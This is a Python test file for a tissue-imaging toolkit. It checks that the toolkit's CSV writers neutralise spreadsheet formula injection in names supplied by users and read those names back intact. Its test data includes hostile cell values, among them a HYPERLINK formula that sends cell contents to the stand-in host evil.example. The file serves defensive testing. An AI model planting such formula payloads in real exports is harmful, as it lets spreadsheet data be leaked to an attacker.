"""No CSV the toolkit writes starts a cell with text a spreadsheet would run as a formula.

Hostile names (OWASP's CSV injection: ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return at a cell's start) go in wherever a user can type a name:
the groups of a ``sample_data_synth`` study, the specimens and groups of a
``strain2d batch`` manifest (with the synthetic study's own manifest cells
carried through), the run folders given to ``strain2d study``, the stacks of
an ``mpm3d batch``.  Every CSV written is then read with the csv module: no
cell may start a formula (plain numbers such as ``-0.5`` excepted), and the
toolkit's readers give every name back as it was typed.  ``stereo`` writes no
user text into its tables (points, matches and quality per frame are
numbers); tests/tissue_core/test_csvtext.py checks that every CSV writer of
the toolkit goes through :func:`tissue_core.csvtext.csv_writer`.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

from sample_data_synth import make_stack_case, write_stack
from sample_data_synth.specimens import Group, make_study
from tests.badinput import formula_cells
from tissue_core.csvtext import restore_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
RUN_OPTIONS = ["--grid", "3x3", "--animation", "none", "--workers", "1", "-q"]


def _rows(path: Path) -> list[dict[str, str]]:
    """The rows of a CSV as written (nothing restored)."""
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_every_table_written_from_hostile_names_holds_them_inert_and_reads_them_back(tmp_path):
    from mpm3d.cli import main as mpm3d
    from strain2d.cli import main as strain2d
    from strain2d.study import read_manifest

    # a synthetic study whose groups a spreadsheet would run
    synth = tmp_path / "synth"
    design = (Group("=1+2", 1, lx=0.8, ly=0.92), Group("-2+3", 1, lx=0.86, ly=0.86))
    make_study(synth, design=design, size=96, n_frames=6, rng=0)
    synth_rows = _rows(synth / "manifest.csv")
    assert [r["group"] for r in synth_rows] == ["'=1+2", "'-2+3"]

    # the user's batch manifest: hostile specimens and a group typed in, the second row's
    # group carried over from the synthetic study's manifest as it was written there
    manifest = tmp_path / "mine" / "batch.csv"
    manifest.parent.mkdir()
    typed = [("@SUM(A1)", HYPERLINK), ("+A1", synth_rows[1]["group"])]
    with open(manifest, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["video", "specimen", "group", "roi"])
        for row, (specimen, group) in zip(synth_rows, typed, strict=True):
            writer.writerow([synth / row["video"], specimen, group, row["roi"]])
    batch = tmp_path / "batch"
    assert strain2d(["batch", str(manifest), "--out", str(batch), *RUN_OPTIONS]) == 0
    expected = [("@SUM(A1)", HYPERLINK), ("+A1", "-2+3")]
    entries = read_manifest(batch / "study_manifest.csv")
    assert [(e["specimen"], e["group"]) for e in entries] == expected
    table = _rows(batch / "study" / "specimens.csv")
    assert [(restore_cell(r["specimen"]), restore_cell(r["group"])) for r in table] == expected

    # run folders whose names start with a tab, a carriage return, '='
    runs = tmp_path / "runs"
    names = ["\t=tab", "\r@cr", "=1+2"]
    for name in names:
        shutil.copytree(batch / "runs" / "@SUM(A1)", runs / name)
    study = tmp_path / "study"
    argv = ["-q", "study", *(str(runs / name) for name in names), "--out", str(study)]
    assert strain2d(argv) == 0
    table = _rows(study / "specimens.csv")
    assert [restore_cell(r["specimen"]) for r in table] == names

    # stacks named so in an mpm3d batch
    stack = tmp_path / "stack.tif"
    write_stack(stack, make_stack_case("before", size=96, spacing=(4.0, 5.0, 5.0), rng=1))
    stacks = tmp_path / "stacks.csv"
    stacks.write_text(f"stack,name\n{stack},=1+2\n{stack},-2+3\n")
    metrics = tmp_path / "mpm3d"
    argv = ["batch", str(stacks), "--no-figures", "--workers", "1", "--out", str(metrics), "-q"]
    assert mpm3d(argv) == 0
    assert [restore_cell(r["name"]) for r in _rows(metrics / "metrics.csv")] == ["=1+2", "-2+3"]

    written = [synth, batch, study, metrics]
    tables = {p.relative_to(tmp_path).as_posix() for f in written for p in f.rglob("*.csv")}
    assert {"synth/manifest.csv", "batch/study_manifest.csv", "batch/study/specimens.csv",
            "study/specimens.csv", "mpm3d/metrics.csv", "batch/runs/+A1/strain_nodes.csv",
            "mpm3d/runs/-2+3/folds.csv"} <= tables  # fmt: skip
    for folder in written:
        assert formula_cells(folder) == [], folder
    assert formula_cells(manifest)  # the scan finds what it looks for: the user's own file
